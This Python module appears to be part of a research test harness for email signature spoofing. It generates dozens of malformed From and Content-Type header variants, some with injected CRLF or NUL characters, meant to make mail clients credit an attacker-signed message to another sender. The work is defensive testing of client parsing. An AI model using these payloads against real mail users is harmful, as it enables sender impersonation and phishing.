"""differences.py: From and Content-Type fields that programs read each in their own way

    mail = differences.make("from", "semicolon")

Of the From fields Mallory signs each mail, with a certificate of his own that
stands: a mail client that shows Alice beside a green ribbon was deceived.  Of
the types Alice signs, and the attacker's words stand above the first part.
"""
import attacks
from attacks import MALLORY, boundary_of, clear, sent
from mail import CRLF, detached, word

A, M = "alice@example.com", MALLORY

# name: what is behind "From: "; octets stand for whole lines.
FROMS = {
    "plain": f"Mallory <{M}>",
    "comma": f"{A}, {M}", "comma-turned": f"{M}, {A}", "comma-inside": f"<{A},{M}>", "comma-first": f",{M}",
    "semicolon": f"{A}; {M}", "semicolon-turned": f"{M}; {A}", "blank": f"{A} {M}", "blank-turned": f"{M} {A}",
    "tab": f"{A}\t<{M}>", "angles": f"<{A}> <{M}>", "angles-turned": f"<{M}> <{A}>", "angles-joined": f"<{A}><{M}>",
    "angle-inside": f"<{A} <{M}>>", "angle-missing": f"Alice <{M}", "angle-only-last": f"{M}>", "angle-empty": f"<> {A} <{M}>",
    "address-behind": f"<{M}> {A}", "address-before": f"{A} <{M}>", "address-quoted": f'"{A}" <{M}>',
    "address-quoted-angles": f'"Alice <{A}>" <{M}>', "quotes-empty": f'""{A} <{M}>', "quote-open": f'"{A} <{M}>',
    "quote-escaped": f'"{A}\\" <{M}>', "quote-escaped-twice": f'"{A}\\\\" <{M}>', "pairs": f"Alice \\<{A}\\> <{M}>",
    "comment-before": f"({A}) {M}", "comment-behind": f"{M} ({A})", "comment-behind-angles": f"<{M}> ({A})",
    "comment-name": f"{M} (Alice)", "comment-nested": f"(({A}) <{A}>) <{M}>", "comment-open": f"({A} <{M}>",
    "comment-inside": f"<mallory({A})@evil.example>", "comment-in-domain": f"mallory@evil.example(.{A})",
    "route": f"<@example.com:{M}>", "route-two": f"<@example.com,@other.example:{M}>", "group": f"Alice: {M};",
    "group-named": f"{A}: {M};", "group-empty": f"Alice <{A}>:; {M}", "group-members": f"Friends: {A}, {M};",
    "two-at": f"{A}@evil.example", "quoted-local": f'"{A}"@evil.example', "percent": "alice%example.com@evil.example",
    "bang": "example.com!alice@evil.example", "no-domain": f"Alice <alice> <{M}>", "literal": f"{A} <mallory@[192.0.2.1]>",
    "mailto": f"mailto:{A} <{M}>", "encoded-name": f"=?utf-8?q?alice=40example=2Ecom?= <{M}>",
    "encoded-angles": f"=?utf-8?q?Alice_=3Calice=40example=2Ecom=3E?= <{M}>",
    "encoded-comma": f"=?utf-8?q?alice=40example=2Ecom=2C?= <{M}>", "encoded-nul": f"=?utf-8?q?alice=40example=2Ecom=00?= <{M}>",
    "encoded-line": f"=?utf-8?q?Alice=0D=0AFrom:_alice=40example=2Ecom?= <{M}>",
    "encoded-quote": f'"=?utf-8?q?=22alice=40example=2Ecom=22?=" <{M}>', "encoded-whole": word(f"Alice <{A}>"),
    "encoded-unknown": f"=?x-unknown?q?alice=40example=2Ecom?= <{M}>", "encoded-open": f"=?utf-8?q?alice=40example=2Ecom <{M}>",
    "wide-at": f"{word('alice＠example.com')} <{M}>", "wide-angles": f"{word('Alice ＜alice＠example.com＞')} <{M}>",
    "turned": f"{word('‮moc.elpmaxe@ecila')} <{M}>", "hidden": f"{word('alice​@example.com')} <{M}>",
    "far": f"{word('Alice' + '　' * 80)} <{M}>", "at-in-words": f"{word('alice (at) example.com')} <{M}>",
    "domain-name": f"{word('example.com')} <{M}>", "folded": f"Mallory\r\n <{M}>", "folded-address": f"<mallory@\r\n evil.example>",
    "folded-twice": f"{A}\r\n \r\n <{M}>", "line-feed": f"From: Mallory\n <{M}>".encode(), "bare-cr": f"From: {A}\r <{M}>".encode(),
    "nul": f"From: {A}\0 <{M}>".encode(), "nul-behind": f"From: <{M}>\0{A}".encode(),
    "two-fields": f"From: {A}\r\nFrom: {M}".encode(), "two-fields-turned": f"From: {M}\r\nFrom: {A}".encode(),
    "two-fields-capitals": f"FROM: {M}\r\nfrom: {A}".encode(), "blank-before-colon": f"From : {A}\r\nFrom: {M}".encode(),
    "blank-first": f" From: {A}\r\nFrom: {M}".encode(), "name-nul": f"From\0: {A}\r\nFrom: {M}".encode(),
    "name-long": f"From: {'Alice ' * 200}<{M}>".encode(), "resent": f"Resent-From: {A}\r\nFrom: {M}".encode(),
    "sender": f"Sender: {A}\r\nFrom: {M}".encode(), "x-from": f"X-From: {A}\r\nFrom: {M}".encode(),
    "mbox-line": f"From {A} Mon Jun 15 09:00:00 2026\r\nFrom: {M}".encode(),
    "reply-to": f"Reply-To: {A}\r\nFrom: {M}".encode(), "8-bit": f"From: Ålice <{M}>".encode("latin-1"),
    "utf-8-local": f"From: álice <mállory@evil.example>".encode(), "wide-domain": f"From: <mallory@ｅvil.example>".encode(),
    "soft-hyphen": f"From: <mallory@ev­il.example>".encode(),
}

# name: what becomes of "Content-Type: multipart/signed; protocol=…; micalg=…; boundary="B""; %B is the boundary.
KIND = 'protocol="application/pkcs7-signature"; micalg=sha-256'
TYPES = {
    "plain": f'Content-Type: multipart/signed; {KIND}; boundary="%B"',
    "capitals": f'CONTENT-TYPE: MULTIPART/SIGNED; {KIND}; BOUNDARY="%B"', "token": f"Content-Type: multipart/signed; {KIND}; boundary=_%B",
    "no-protocol": 'Content-Type: multipart/signed; micalg=sha-256; boundary="%B"',
    "other-protocol": 'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="%B"',
    "no-micalg": 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="%B"',
    "comment": f'Content-Type: multipart/signed (text/html); {KIND}; boundary="%B"',
    "comment-first": f'Content-Type: (text/html) multipart/signed; {KIND}; boundary="%B"',
    "blank-before-semicolon": f'Content-Type: multipart/signed ; {KIND} ; boundary="%B"',
    "blank-in-type": f'Content-Type: multipart /signed; {KIND}; boundary="%B"',
    "blank-around-equals": f'Content-Type: multipart/signed; {KIND}; boundary = "%B"',
    "no-blank": f'Content-Type:multipart/signed;{KIND};boundary="%B"', "tabs": f'Content-Type:\tmultipart/signed;\t{KIND};\tboundary="%B"',
    "folded": f'Content-Type: multipart/signed;\r\n\t{KIND};\r\n boundary="%B"', "semicolons": f'Content-Type: multipart/signed;; {KIND}; boundary="%B"',
    "last-semicolon": f'Content-Type: multipart/signed; {KIND}; boundary="%B";', "no-semicolon": f'Content-Type: multipart/signed {KIND} boundary="%B"',
    "comma": f'Content-Type: multipart/signed, text/html; {KIND}; boundary="%B"', "slash": f'Content-Type: multipart/signed/mixed; {KIND}; boundary="%B"',
    "boundary-twice": f'Content-Type: multipart/signed; boundary="other"; {KIND}; boundary="%B"',
    "boundary-twice-turned": f'Content-Type: multipart/signed; boundary="%B"; {KIND}; boundary="other"',
    "boundary-pieces": f'Content-Type: multipart/signed; {KIND}; boundary*0="%B"; boundary*1=""',
    "boundary-extended": f"Content-Type: multipart/signed; {KIND}; boundary*=us-ascii''%B",
    "boundary-both": f"Content-Type: multipart/signed; {KIND}; boundary=\"%B\"; boundary*=us-ascii''other",
    "boundary-blank-behind": f'Content-Type: multipart/signed; {KIND}; boundary="%B "', "boundary-single-quotes": f"Content-Type: multipart/signed; {KIND}; boundary='%B'",
    "boundary-open-quote": f'Content-Type: multipart/signed; {KIND}; boundary="%B', "boundary-pair": f'Content-Type: multipart/signed; {KIND}; boundary="\\%B"',
    "boundary-comment": f'Content-Type: multipart/signed; {KIND}; boundary="%B"(other)', "boundary-encoded": f"Content-Type: multipart/signed; {KIND}; boundary==?us-ascii?q?%B?=",
    "boundary-beginning": f'Content-Type: multipart/signed; {KIND}; boundary="%b"', "boundary-empty": f'Content-Type: multipart/signed; {KIND}; boundary=""',
    "two-fields": f'Content-Type: text/html\r\nContent-Type: multipart/signed; {KIND}; boundary="%B"',
    "two-fields-turned": f'Content-Type: multipart/signed; {KIND}; boundary="%B"\r\nContent-Type: text/html',
    "mixed": f'Content-Type: multipart/mixed; {KIND}; boundary="%B"', "x-signed": f'Content-Type: multipart/x-signed; {KIND}; boundary="%B"',
    "colon-blank": f'Content-Type : multipart/signed; {KIND}; boundary="%B"', "nul": f'Content-Type: multipart/signed\0; {KIND}; boundary="%B"',
    "encoding-base64": f'Content-Transfer-Encoding: base64\r\nContent-Type: multipart/signed; {KIND}; boundary="%B"',
    "encoding-odd": f'Content-Transfer-Encoding: 8bit (x)\r\nContent-Type: multipart/signed; {KIND}; boundary="%B"',
    "format-flowed": f'Content-Type: multipart/signed; format=flowed; delsp=yes; charset=utf-16; {KIND}; boundary="%B"',
}


def make_from(name):
    given = FROMS[name]
    return sent(detached(attacks.hers(), attacks.mallory()), sender=given)


def make_type(name):
    body = clear(preamble=f"Content-Type: text/html\r\n\r\n{attacks.CALL}".encode())
    boundary = boundary_of(body)
    said = TYPES[name].replace("%B", boundary.decode()).replace("%b", boundary.decode()[:6])
    if "=_=" in said:  # a boundary without quotes has to be a token
        said, body = said.replace("=_=_", "="), body.replace(boundary, boundary[2:])
    return sent(body.replace(body.partition(CRLF)[0], said.encode(), 1))


MAKERS = {"from": (FROMS, make_from), "type": (TYPES, make_type)}


def make(kind, name):
    attacks.call(f"{kind} {name}")
    return MAKERS[kind][1](name)


def names():
    return [(kind, name) for kind, (table, _) in MAKERS.items() for name in table]
